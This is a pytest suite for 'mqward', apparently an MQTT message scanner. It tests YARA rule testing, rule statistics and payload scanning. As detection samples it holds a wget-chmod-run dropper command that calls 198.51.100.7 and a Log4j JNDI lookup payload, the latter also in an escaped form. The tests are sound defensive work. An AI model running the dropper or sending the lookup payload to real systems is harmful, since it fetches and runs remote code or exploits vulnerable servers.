# SPDX-License-Identifier: Apache-2.0
"""mqward rules test, rules stats and scan: rules tried with their samples and ordinary messages, what they cost, and a
file scanned as a message would be."""
import base64
import gzip
import json
import os
import re
import xml.etree.ElementTree

import pytest

from servers import run_cli
from test_check import Folder

pytestmark = pytest.mark.brokerless

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..")
LIBRARY = os.path.join(ROOT, "rules", "library")
SETS = [LIBRARY, os.path.join(LIBRARY, "personal"), os.path.join(LIBRARY, "strict")]
TELEMETRY = os.path.join(ROOT, "tests", "vectors", "rules", "telemetry")

# Put together here, so that antivirus software leaves this file alone.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"
ELF = bytes.fromhex("7f454c46020101000000000000000000") + bytes.fromhex("02003e00010000007800400000000000") + bytes(64)
DROPPER = b"cd /tmp; wget http://198.51.100.7/m.sh -O m.sh; chmod 777 m.sh; ./m.sh; rm -rf m.sh\n"

NEEDLE = 'rule needle {{ meta: {meta} strings: $a = "needle" condition: $a }}\n'


def run(folder, *arguments, status=0, **options):
    result = run_cli(*arguments, folder=folder, **options)
    assert result.returncode == status, result.stdout + result.stderr
    return result


@pytest.fixture
def rules(tmp_path):
    """A folder iot with a.yar and samples/, whose meta and samples a test writes."""
    os.makedirs(tmp_path / "iot" / "samples")

    def write(text, **samples):
        (tmp_path / "iot" / "a.yar").write_text(text, encoding="utf-8")
        for name, sample in samples.items():
            (tmp_path / "iot" / "samples" / name.replace("__", ".")).write_text(sample)
        return tmp_path
    return write


@pytest.fixture
def configured(tmp_path, certs):
    """Writes a mqward.yaml with a rule set iot and a policy with these checks; names the file."""
    def write(text, checks=""):
        (tmp_path / "iot.yar").write_text(text)
        folder = Folder(tmp_path, certs)
        folder.configuration += "rules: {iot: {files: iot.yar}}\nscan: {quarantine: {directory: kept}}\n"
        folder.policy += checks
        result = folder.run()
        assert result.returncode == 0, result.stderr
        return tmp_path
    return write


# ---- rules test ----

def test_the_shipped_rules_stand_their_samples_and_ordinary_telemetry(tmp_path):
    result = run(tmp_path, "rules", "test", "--corpus", TELEMETRY, "--junit", "out.xml", *SETS)
    assert result.stderr == ""
    lines = result.stdout.splitlines()
    numbers = re.fullmatch(
        r"(\d+) rules, (\d+) samples, 0 failed; 0 rules without samples; (\d+) messages, 0 failed", lines[-1])
    count, samples, messages = (int(number) for number in numbers.groups())
    assert count >= 50 and samples >= 4 * count and messages >= 300
    assert len(lines) == count + 1 and all(line.startswith("ok      ") for line in lines[:-1])
    suite, = xml.etree.ElementTree.parse(tmp_path / "out.xml").getroot().findall("testsuite")
    assert (suite.get("failures"), suite.get("errors")) == ("0", "0")
    assert int(suite.get("tests")) == len(suite.findall("testcase")) == samples + messages


def test_a_hit_and_a_miss(rules):
    folder = rules(NEEDLE.format(meta='sample_hit = "a b.b64" sample_miss = "c"'),
                   a="a needle", b__b64=base64.b64encode(b"needles").decode(), c="hay")
    assert run(folder, "rules", "test", "iot").stdout.splitlines() == [
        "ok      iot/needle: 2 hits, 1 miss", "1 rule, 3 samples, 0 failed; 0 rules without samples"]


def test_failures_are_named_and_end_with_1(rules):
    text = base64.b64encode(b"A needle in a haystack is hard to see").decode()
    folder = rules("\n" + NEEDLE.format(meta='sample_hit = "hay gone" sample_miss = "encoded bad.b64"'),
                   hay="hay", encoded=f'{{"v":"{text}"}}', bad__b64="{}")
    result = run(folder, "rules", "test", "iot", "--junit", "out.xml", status=1)
    assert result.stdout.splitlines() == [
        "FAILED  iot/needle: sample_hit hay: not found (iot/a.yar:2)",
        "FAILED  iot/needle: sample_hit gone: there is no such file in 'samples' (a name has no '/' and no '.' at its"
        " start) (iot/a.yar:2)",
        "FAILED  iot/needle: sample_miss encoded: found in base64 at 2 (iot/a.yar:2)",
        "FAILED  iot/needle: sample_miss bad.b64: it can't be read (iot/a.yar:2)",
        "1 rule, 4 samples, 4 failed; 0 rules without samples"]
    assert "bad.b64: error: can't be read: it is not base64" in result.stderr
    suite, = xml.etree.ElementTree.parse(folder / "out.xml").getroot().findall("testsuite")
    assert [suite.get(name) for name in ("tests", "failures", "errors")] == ["5", "4", "1"]
    case = suite.findall("testcase")[3]
    assert (case.get("classname"), case.get("name")) == ("iot/needle", "sample_miss encoded")
    assert (case.find("failure").get("message"), case.find("failure").text) == ("found in base64 at 2", "iot/a.yar:2")


def test_the_context_of_a_sample(rules):
    text = ('rule elsewhere { meta: sample_hit = "a" sample_miss = "b" strings: $a = "needle" '
            'condition: $a and not topic startswith "fw/" and qos < 2 }')
    folder = rules(text, a="needle", b="needle", b__context="topic fw/plc-7\n")
    run(folder, "rules", "test", "iot")
    result = run(rules(text, b__context="topics fw/plc-7\n"), "rules", "test", "iot", status=1)
    assert "iot/samples/b.context:1:1: error: not understood" in result.stderr
    run(rules(text, b__context="topic dt/a\nqos 2\n"), "rules", "test", "iot")


def test_rules_without_samples_are_a_warning(rules):
    folder = rules('rule a { condition: false }\nprivate rule b { condition: false }\n')
    assert run(folder, "rules", "test", "iot").stdout.splitlines() == [
        "without samples: iot/a (iot/a.yar:1)", "2 rules, 0 samples, 0 failed; 1 rule without samples"]


def test_installed_rules_have_no_folder_of_samples(tmp_path):
    (tmp_path / "a.yar").write_text(NEEDLE.format(meta='sample_hit = "a"'))
    assert "without samples: a.yar/needle (a.yar:1)" in run(tmp_path, "rules", "test", "a.yar").stdout


def test_false_positives_of_a_corpus(rules):
    folder = rules(NEEDLE.format(meta='sample_hit = "a"'), a="needle")
    os.makedirs(folder / "corpus" / "more")
    (folder / "corpus" / "clean.json").write_text('{"v":1}')
    (folder / "corpus" / "more" / "twice.json").write_text('{"v":"\\u006eeedle needle"}')
    (folder / "corpus" / "bomb.gz").write_bytes(gzip.compress(bytes(50_000_000)))
    (folder / "corpus" / "topic.context").write_text("nothing that is read by itself")
    result = run(folder, "rules", "test", "--corpus", "corpus", "iot", status=1)
    assert result.stdout.splitlines() == [
        "ok      iot/needle: 1 hit, 0 misses",
        "FAILED  corpus/bomb.gz: not all was looked at: ratio",
        "FAILED  corpus/more/twice.json: iot/needle found in raw at 18",
        "FAILED  corpus/more/twice.json: iot/needle found in json at 6",
        "1 rule, 1 sample, 0 failed; 0 rules without samples; 3 messages, 2 failed"]
    report = json.loads(run(folder, "rules", "test", "--json", "--corpus", "corpus", "iot", status=1).stdout)
    assert (report["ok"], report["messages"]) == (False, 3)
    bomb, twice = report["messages_failed"]
    assert (bomb["failure"], bomb["found"]) == ("not all was looked at: ratio", [])
    assert [(found["rule"], found["view"], found["offset"]) for found in twice["found"]] == [
        ("needle", "raw", 18), ("needle", "json", 6)]


def test_a_corpus_without_messages_is_no_success(rules):
    folder = rules(NEEDLE.format(meta='sample_hit = "a"'), a="needle")
    os.makedirs(folder / "empty")
    assert "empty: error: can't be read: it has no messages" in run(
        folder, "rules", "test", "--corpus", "empty", "iot", status=1).stderr
    run(folder, "rules", "test", "--corpus", "nowhere", "iot", status=1)
    (folder / "none.yar").write_text("// no rule\n")
    assert "there is no rule" in run(folder, "rules", "test", "none.yar", status=1).stderr


def test_errors_of_rules_have_their_line(rules):
    folder = rules("rule a {\n  strings:\n    $a = /(/\n  condition:\n    $a\n}\nrule b { condition: nothing }\n")
    result = run(folder, "rules", "test", "iot", status=1)
    assert result.stdout == "not tested: 2 errors\n"
    assert re.search(r"^iot/a\.yar:3:\d+: error: ", result.stderr, re.M)
    assert re.search(r"^iot/a\.yar:7:\d+: error: .*nothing", result.stderr, re.M)
    report = json.loads(run(folder, "rules", "test", "--json", "iot", status=1).stdout)
    assert report["ok"] is False and [finding["line"] for finding in report["findings"]] == [3, 7]


def test_modules_have_to_be_granted(rules):
    folder = rules('import "math"\nrule m { strings: $a = "needle" condition: $a and math.entropy(0, filesize) > 0 }\n')
    assert "module 'math' is not granted" in run(folder, "rules", "test", "iot", status=1).stderr
    run(folder, "rules", "test", "-m", "hash", "--module", "math", "iot")


def test_costs_are_listed_with_the_dearest_first(rules):
    text = (NEEDLE.format(meta='sample_hit = "a"') +
            "rule dear { condition: for any i in (0..filesize) : (for any k in (0..20) : (uint8(i + k) == 300)) }\n")
    folder = rules(text, a="needle")
    assert re.search(r"rule 'dear' costs \d+ us for each KiB", run(folder, "rules", "test", "iot", status=1).stderr)
    result = run(folder, "rules", "test", "--cost", "--allow-slow", "iot")
    assert re.search(r"^ +\d+ +\d+  iot/dear \(.*\)\n +\d+ +\d+  iot/needle ", result.stdout, re.M)
    report = json.loads(run(folder, "rules", "test", "--cost", "--allow-slow", "--json", "iot").stdout)
    dear, cheap = report["costs"]
    assert (dear["rule"], cheap["rule"]) == ("dear", "needle")
    assert dear["hostile_ns_per_kib"] > 20000 > cheap["hostile_ns_per_kib"]


def test_the_rules_of_a_configuration(configured):
    folder = configured(NEEDLE.format(meta='sample_hit = "a"'))
    os.makedirs(folder / "samples")
    (folder / "samples" / "a").write_text("needle")
    lines = run(folder, "rules", "test", "-c", "mqward.yaml").stdout.splitlines()
    assert lines[0] == "ok      iot/needle: 1 hit, 0 misses"
    assert "either the rules" in run(folder, "rules", "test", "-c", "mqward.yaml", "iot.yar", status=2).stderr
    run(folder, "rules", "test", "-c", "nowhere.yaml", status=1)


def test_what_strangers_wrote_does_not_reach_the_terminal(tmp_path):
    name = "\x1b[31m\u202e.yar"
    (tmp_path / name).write_text('rule r { meta: description = "\\x1b]0;a title\\x07" id = "a\\nb" '
                                 'sample_hit = "\x1b[2J" strings: $a = "needle" condition: $a }\n')
    os.makedirs(tmp_path / "samples")
    (tmp_path / "\x1b[5m").write_text("needle")
    for arguments in (("rules", "test", name), ("rules", "stats", name), ("scan", "-r", name, "\x1b[5m"),
                      ("rules", "test", name, "--corpus", "."), ("scan", "-r", "\x1b[5m", "\x1b[5m")):
        result = run_cli(*arguments, folder=tmp_path)
        assert result.stdout + result.stderr
        assert not re.search(r"[^\n\x20-\x7e]", result.stdout + result.stderr), arguments


# ---- rules stats ----

def test_what_rules_come_to(rules):
    folder = rules(NEEDLE.format(meta='id = "1"') + "rule large { condition: filesize > 1000 }\n")
    lines = run(folder, "rules", "stats", "iot").stdout.splitlines()
    assert "rules        2, 1 of them evaluated for every message" in lines
    assert lines[-1] == "every message: iot/large (iot/a.yar:2)"
    os.makedirs(folder / "corpus")
    for number in range(9):
        value = f'"needle {number}"' if number < 2 else number
        (folder / "corpus" / str(number)).write_text(f'{{"v":{value}}}')
    report = json.loads(run(folder, "rules", "stats", "--json", "--corpus", "corpus", "iot").stdout)
    assert (report["sets"], report["rules"], report["groups"], report["always_groups"]) == (1, 2, 2, 1)
    assert [rule["rule"] for rule in report["always"]] == ["large"]
    assert report["engine"] in ("hyperscan", "automaton") and report["literals"] >= 1
    corpus = report["corpus"]
    assert (corpus["messages"], corpus["views"], corpus["views_to_libyara"], corpus["calls"]) == (9, 9, 9, 11)
    assert [(rule["rule"], rule["views"]) for rule in corpus["candidates"]] == [("needle", 2)]
    text = run(folder, "rules", "stats", "iot", "--corpus", "corpus").stdout
    assert "       2  22.22 %  iot/needle (iot/a.yar:1)" in text


def test_stats_of_rules_with_errors(rules):
    assert re.search(r"iot/a\.yar:1:\d+: error", run(rules("rule"), "rules", "stats", "iot", status=1).stderr)


# ---- scan ----

def in_json(payload):
    return json.dumps({"id": "plc-7", "data": base64.b64encode(payload).decode(), "n": 3}).encode()


FOUND = {
    # name: (payload, rule, view)
    "EICAR": (EICAR, "eicar_test_file", "raw"),
    "an ELF in base64 in JSON": (in_json(ELF), "elf_executable", "base64"),
    "a dropper in gzip": (gzip.compress(DROPPER), "download_and_run", "gzip"),
    "a dropper in gzip in base64 in JSON": (in_json(gzip.compress(DROPPER)), "download_and_run", "base64/gzip"),
    "a lookup": (b'{"user":"${jndi:ldap://198.51.100.7/a}"}', "log4j_lookup", "raw"),
    "a lookup behind escapes": (b'{"user":"\\u0024\\u007bjndi:ldap://198.51.100.7/a}"}', "log4j_lookup", "json"),
}


@pytest.mark.parametrize("name", FOUND)
def test_what_the_shipped_rules_find(tmp_path, name):
    payload, rule, view = FOUND[name]
    result = run(tmp_path, "scan", "-r", LIBRARY, "--plainly", "--json", "-", standard_input=payload, status=1)
    report = json.loads(result.stdout)
    scan, = report["scans"]
    assert (rule, view) in [(found["rule"], found["view"]) for found in scan["found"]]
    assert (report["clean"], scan["complete"], scan["same_as_libyara"]) == (False, True, True)
    (tmp_path / "payload").write_bytes(payload)
    text = run(tmp_path, "scan", "--rules", LIBRARY, "payload", status=1).stdout
    assert re.search(rf"^FOUND   \S+/{rule} in {view} at \d+", text, re.M) and "        severity     " in text


def test_telemetry_is_clean(tmp_path):
    path = os.path.join(TELEMETRY, "sparkplug-b-02.bin")
    arguments = [word for rules in SETS for word in ("-r", rules)]
    assert run(tmp_path, "scan", *arguments, "--topic", "dt/a", "--plainly", path).stdout.splitlines() == [
        "0 findings; all of it was looked at", "libyara without shortcuts says the same"]
    with open(path, "rb") as file:
        run(tmp_path, "scan", *arguments, "-t", "dt/a", "-", standard_input=file.read())


def test_views_and_bounds(tmp_path):
    (tmp_path / "a.yar").write_text(NEEDLE.format(meta='id = "n-1"'))
    (tmp_path / "payload").write_bytes(in_json(b"here is a Needle and a needle"))
    assert "in base64 at 23, decoded from 25" in run(tmp_path, "scan", "-r", "a.yar", "payload", status=1).stdout
    run(tmp_path, "scan", "-r", "a.yar", "--views", "base64,gzip", "payload", status=1)
    run(tmp_path, "scan", "-r", "a.yar", "--views", "gzip", "payload")
    run(tmp_path, "scan", "-r", "a.yar", "--views", "none", "payload")
    result = run(tmp_path, "scan", "-r", "a.yar", "--max-scan", "10B", "payload", status=1)
    assert result.stdout == "0 findings; not all of it was looked at: max_scan\n"


def test_what_the_message_has_besides(tmp_path):
    (tmp_path / "a.yar").write_text(
        'rule r { strings: $a = "needle" condition: $a and topic == "fw/a" and content_type == "a=b" and retain }')
    (tmp_path / "payload").write_text("needle")
    arguments = ["scan", "-r", "a.yar", "payload", "--topic", "fw/a", "-w", "retain=true"]
    run(tmp_path, *arguments, "--with", "content_type=a=b", status=1)
    run(tmp_path, *arguments, "--with", "content_type=a")
    assert "--with: 'ratain=true': expected one of topic" in run(
        tmp_path, *arguments, "--with", "ratain=true", status=2).stderr


CHECKS = """\
checks:
  - {check: keep, topics: [a/#], yara: {rules: [iot], views: none, on_match: alert}}
  - {check: watch, mode: monitor, topics: [a/b/#], yara: {rules: [iot], on_match: reject}}
  - {check: short, topics: [a/c], yara: {rules: [iot], max_scan: 1KiB, on_match: drop}}
  - {check: outside, topics: [a/out], yara: {rules: [iot], at: receive, on_match: quarantine}}
  - {check: often, topics: [a/#], rate: {per: id, messages: 5/s}}
"""


def test_on_the_terms_of_a_check(configured):
    folder = configured(NEEDLE.format(meta='id = "1"'), CHECKS)
    (folder / "payload").write_bytes(in_json(b"here is a Needle and a needle"))
    (folder / "long").write_bytes(b"x" * 2000)
    (folder / "plain").write_text("needle")
    arguments = ["scan", "-c", "mqward.yaml", "payload"]
    assert "iot/needle in base64" in run(folder, *arguments, status=1).stdout
    assert run(folder, *arguments, "--check", "keep").stdout.splitlines() == [
        "check keep (policy.yaml:13)", "0 findings; all of it was looked at", "the message is passed on"]
    assert run(folder, *arguments, "--check", "watch", status=1).stdout.splitlines()[-1] == (
        "the message is refused, but for mode: monitor")
    assert run(folder, "scan", "-c", "mqward.yaml", "--check", "short", "long", status=1).stdout.splitlines()[-1] == (
        "the message is refused: it was not scanned to its end")
    assert run(folder, "scan", "-c", "mqward.yaml", "--check", "keep", "plain", status=1).stdout.splitlines()[-1] == (
        "the message is passed on, and the audit says so")
    assert run(folder, "scan", "-c", "mqward.yaml", "--as", "anonymous anonymous", "--topic", "a/out", "--delivery",
               "plain", status=1).stdout.splitlines()[-1] == "the message is not delivered, and stored for an analyst"
    assert "'often' (policy.yaml:17) does not scan" in run(folder, *arguments, "--check", "often", status=2).stderr
    assert "no check 'nowhere'" in run(folder, *arguments, "--check", "nowhere", status=2).stderr


def test_on_the_terms_of_all_checks_of_a_client(configured):
    folder = configured(NEEDLE.format(meta='id = "1"'), CHECKS)
    (folder / "plain").write_text("needle")
    arguments = ["scan", "-c", "mqward.yaml", "--json", "plain", "--as", "anonymous anonymous"]

    def asked(topic, status=1):
        report = json.loads(run(folder, *arguments, "--topic", topic, status=status).stdout)
        return [(scan["check"], scan["on_match"]) for scan in report["scans"]]
    assert asked("a/b/x") == [("keep", "alert"), ("watch", "reject")]
    assert asked("a/c") == [("keep", "alert"), ("short", "drop")]
    assert "not allowed at all" in run(folder, *arguments, "--topic", "other", status=2).stderr
    assert run(folder, *arguments, status=2).stderr.startswith("mqward: --as needs the --topic")
    assert "no identity source 'cert'" in run(
        folder, "scan", "-c", "mqward.yaml", "plain", "--as", "cert plc-7", "-t", "a/b", status=2).stderr
    (folder / "iot.yar").write_text('rule r { strings: $a = "needle" condition: $a and identity == "anonymous" }')
    assert asked("a/c") == [("keep", "alert"), ("short", "drop")]
    delivery = run(folder, *arguments, "--topic", "a/c", "--delivery")
    assert json.loads(delivery.stdout)["scans"] == []
    assert asked("a/c/d", status=1) == [("keep", "alert")]
    run(folder, *arguments, "--topic", "a/c", "--with", "identity=somebody")


@pytest.mark.parametrize("arguments", [
    (), ("a", "b"), ("--views", "rot13", "a"), ("--max-scan", "lots", "a"), ("--max-scan", "0", "a"),
    ("--check", "x", "a"), ("--with", "x", "a"),
    ("--as", "cert a", "--topic", "b", "a"), ("-c", "x.yaml", "a"), ("--nothing", "a"),
])
def test_a_wrong_command_line(tmp_path, arguments):
    (tmp_path / "a").write_text("rule r { condition: true }")
    assert run(tmp_path, "scan", "-r", "a", *arguments, status=2).stderr.startswith("mqward: ")


def test_what_can_not_be_read(tmp_path):
    (tmp_path / "a.yar").write_text("rule r { condition: true }")
    os.mkfifo(tmp_path / "pipe")
    for path in ("nowhere", "pipe", "."):
        assert f"{path}: error: can't be read" in run(tmp_path, "scan", "-r", "a.yar", path, status=1).stderr
    assert json.loads(run(tmp_path, "scan", "-r", "a.yar", "--json", "nowhere", status=1).stdout)["clean"] is False
